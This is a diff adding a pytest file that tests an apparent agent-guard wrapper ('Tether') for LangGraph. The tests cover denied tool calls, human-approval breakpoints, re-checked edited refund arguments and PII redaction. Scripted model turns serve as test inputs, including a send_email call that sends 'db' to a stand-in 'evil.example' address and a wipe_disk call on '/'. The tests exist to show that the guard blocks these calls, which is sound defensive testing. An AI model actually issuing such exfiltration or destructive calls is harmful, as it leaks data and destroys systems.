@@ -1,0 +1,136 @@
+"""A hand-written StateGraph whose ToolNode runs behind Tether's wrapper."""
+
+from __future__ import annotations
+
+import asyncio
+
+import pytest
+from langchain_core.messages import HumanMessage
+from langgraph.checkpoint.memory import InMemorySaver
+from langgraph.types import Command
+
+from tether.core import Guard
+from tether.langgraph import BreakpointError, Tether
+
+from .conftest import ScriptedModel, calls, kinds
+from .graphs import state_graph
+
+THREAD = {"configurable": {"thread_id": "t-1"}}
+
+
+def test_denied_call_never_runs_and_the_model_reads_why(guard: Guard, tools, ran) -> None:
+    model = ScriptedModel(
+        script=[calls(("lookup", {"ticket": "42"}, "c1"), ("send_email", {"to": "x@evil.example", "body": "db"}, "c2"))]
+    )
+    graph = state_graph(model, tools, Tether(guard, agent="support-bot"))
+    graph.invoke({"messages": [HumanMessage("help")]}, THREAD)
+    assert ran.count("lookup") == 1
+    assert ran.count("send_email") == 0
+    replies = model.tool_replies()
+    assert "ticket 42" in replies["c1"]
+    assert replies["c2"].startswith("Tether denied the call to 'send_email'")
+    assert "rule: agents.support-bot.tools.send_email" in replies["c2"]
+    assert [k for k in kinds(guard.store, "t-1") if k[0] == "tool.decision"] == [
+        ("tool.decision", "lookup", "allow"),
+        ("tool.decision", "send_email", "deny"),
+    ]
+
+
+def test_async_run_is_enforced_too(guard: Guard, tools, ran) -> None:
+    model = ScriptedModel(script=[calls(("send_email", {"to": "x@evil.example", "body": "db"}, "c1"))])
+    graph = state_graph(model, tools, Tether(guard, agent="support-bot"))
+    asyncio.run(graph.ainvoke({"messages": [HumanMessage("help")]}, THREAD))
+    assert ran.count("send_email") == 0
+    assert "Tether denied" in model.tool_replies()["c1"]
+
+
+def test_tool_output_is_recorded_after_the_call(guard: Guard, tools, ran) -> None:
+    model = ScriptedModel(script=[calls(("lookup", {"ticket": "7"}, "c1"))])
+    state_graph(model, tools, Tether(guard, agent="support-bot")).invoke({"messages": [HumanMessage("x")]}, THREAD)
+    results = [e for e in guard.store.session_events("t-1") if e.kind == "tool.result"]
+    assert len(results) == 1
+    assert "pii" in results[0].details["labels"]  # the e-mail address in the output was seen
+    assert "jane@example.com" not in results[0].data  # and stored redacted
+
+
+def test_parallel_breakpoints_pause_together_and_resume_with_one_answer_each(guard: Guard, tools, ran) -> None:
+    model = ScriptedModel(
+        script=[
+            calls(
+                ("refund", {"order": "A", "amount": 100}, "r1"),
+                ("lookup", {"ticket": "1"}, "l1"),
+                ("refund", {"order": "B", "amount": 200}, "r2"),
+                ("send_email", {"to": "x@evil.example", "body": "hi"}, "e1"),
+            )
+        ]
+    )
+    graph = state_graph(model, tools, Tether(guard, agent="support-bot"), InMemorySaver())
+    result = graph.invoke({"messages": [HumanMessage("refunds")]}, THREAD)
+    interrupts = result["__interrupt__"]
+    assert len(interrupts) == 1
+    requests = interrupts[0].value["requests"]
+    assert [(r["tool_call_id"], r["tool"], r["args"]["amount"]) for r in requests] == [
+        ("r1", "refund", 100),
+        ("r2", "refund", 200),
+    ]
+    assert ran.calls == []  # nothing in the batch ran before the person answered
+
+    graph.invoke(Command(resume={"r1": "approve", "r2": {"approved": False, "comment": "too much"}}), THREAD)
+    assert ran.count("refund") == 1
+    assert ran.count("lookup") == 1  # ran once, after the answer, not again on resume
+    replies = model.tool_replies()
+    assert set(replies) == {"r1", "r2", "l1", "e1"}  # every call id of the AI message is answered
+    assert replies["r1"] == "refunded 100 on A"
+    assert "denied by langgraph-resume: too much" in replies["r2"]
+    decisions = [k for k in kinds(guard.store, "t-1") if k[0] == "tool.decision"]
+    assert len(decisions) == 4  # each call decided once, though the node ran twice
+
+
+def test_edited_arguments_are_checked_again(guard: Guard, tools, ran) -> None:
+    model = ScriptedModel(script=[calls(("refund", {"order": "A", "amount": 400}, "r1"))])
+    graph = state_graph(model, tools, Tether(guard, agent="support-bot"), InMemorySaver())
+    graph.invoke({"messages": [HumanMessage("refund")]}, THREAD)
+    graph.invoke(Command(resume={"args": {"order": "A", "amount": 80}, "approver": "alice"}), THREAD)
+    assert ran.calls == [("refund", {"order": "A", "amount": 80})]
+
+    model2 = ScriptedModel(script=[calls(("refund", {"order": "B", "amount": 400}, "r2"))])
+    config = {"configurable": {"thread_id": "t-2"}}
+    graph2 = state_graph(model2, tools, Tether(guard, agent="support-bot"), InMemorySaver())
+    graph2.invoke({"messages": [HumanMessage("refund")]}, config)
+    graph2.invoke(Command(resume={"args": {"order": "B", "amount": 9000}}), config)
+    assert ran.count("refund") == 1  # the edit broke the policy's limit: still denied
+    assert "edited arguments rejected" in model2.tool_replies()["r2"]
+
+
+def test_breakpoint_without_checkpointer_says_what_to_add(guard: Guard, tools, ran) -> None:
+    model = ScriptedModel(script=[calls(("refund", {"order": "A", "amount": 100}, "r1"))])
+    graph = state_graph(model, tools, Tether(guard, agent="support-bot"))
+    with pytest.raises(BreakpointError, match="checkpointer"):
+        graph.invoke({"messages": [HumanMessage("refund")]}, THREAD)
+    assert ran.calls == []
+
+
+def test_unknown_tool_and_bad_arguments(guard: Guard, tools, ran) -> None:
+    model = ScriptedModel(
+        script=[
+            calls(
+                ("wipe_disk", {"path": "/"}, "u1"),
+                ("lookup", {"ticket_number": 5}, "b1"),  # not the tool's schema
+            )
+        ]
+    )
+    state_graph(model, tools, Tether(guard, agent="support-bot")).invoke({"messages": [HumanMessage("x")]}, THREAD)
+    replies = model.tool_replies()
+    assert "tool 'wipe_disk' is not declared in the policy" in replies["u1"]
+    assert "ticket" in replies["b1"] and ran.count("lookup") == 0  # schema error reported, body never ran
+    results = [e for e in guard.store.session_events("t-1") if e.kind == "tool.result"]
+    assert len(results) == 1 and results[0].tool == "lookup"
+
+
+def test_without_thread_id_runs_in_one_session_of_its_own(guard: Guard, tools, ran, caplog) -> None:
+    model = ScriptedModel(script=[calls(("lookup", {"ticket": "1"}, "c1"))])
+    t = Tether(guard, agent="support-bot")
+    state_graph(model, tools, t).invoke({"messages": [HumanMessage("x")]})
+    assert ran.count("lookup") == 1
+    assert "no thread_id" in caplog.text
+    assert guard.store.session_events(t.session_for({}).id)
